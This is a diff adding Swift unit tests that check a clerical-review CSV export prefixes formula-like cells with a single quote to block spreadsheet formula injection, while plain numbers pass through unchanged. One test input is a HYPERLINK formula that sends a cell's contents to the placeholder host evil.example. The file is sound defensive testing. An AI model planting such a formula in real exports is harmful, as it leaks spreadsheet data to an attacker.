@@ -75,6 +75,32 @@ import Testing
         #expect(try Self.error(text) == expected)
     }
 
+    /// #6: a cell that begins like a formula is written with a single quote before it (OWASP); a
+    /// plain number is a number, not a formula.
+    @Test(arguments: [
+        ("=HYPERLINK(\"http://evil.example/?x=\"&A2,\"97140\")", "'=HYPERLINK(\"http://evil.example/?x=\"&A2,\"97140\")"),
+        ("+1-555", "'+1-555"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"), ("\rx", "'\rx"), ("-", "'-"),
+        ("ANN", "ANN"), ("O'Brien", "O'Brien"), ("'quoted", "'quoted"), ("", ""), ("==", "'=="), ("a=b", "a=b"),
+        // `=` alone is the mark for values that agree: no formula.
+        ("=", "="),
+        ("-1.25", "-1.25"), ("0.5000", "0.5000"), ("-3", "-3"), ("-1.2.3", "'-1.2.3"), ("-1e5", "'-1e5"),
+    ])
+    func cellsThatBeginLikeAFormulaAreNeutralised(cell: String, written: String) {
+        #expect(ClericalReviewFile.neutralised(cell) == written)
+    }
+
+    /// The import reads a neutralised key back as the key (a key loaded before keys were
+    /// forbidden to begin so), and every other key as written.
+    @Test func neutralisedKeysAreReadBackAsStored() throws {
+        let keys = ["=K1", "+K2", "-K3", "@K4", "K5", "O'K6"]
+        let rows = keys.enumerated().map { index, key in
+            ["S1", ClericalReviewFile.neutralised(key), "S2", ClericalReviewFile.neutralised("R\(index)"), "match", ""].joined(separator: ",")
+        }
+        let (file, _) = try Self.read(([Self.header] + rows).joined(separator: "\n") + "\n")
+        #expect(file.decisions.map(\.left.sourceKey) == keys)
+        #expect(file.decisions.map(\.right.sourceKey) == keys.indices.map { "R\($0)" })
+    }
+
     @Test func valuesAreShownOnlyWhereTheyDiffer() {
         #expect(ClericalReviewFile.valueCells(left: "ANN", right: "ANNE", level: 1, exactLevel: 0) == ("ANN", "ANNE"))
         // Exact: the values agree as compared (case and punctuation aside), so neither is written.
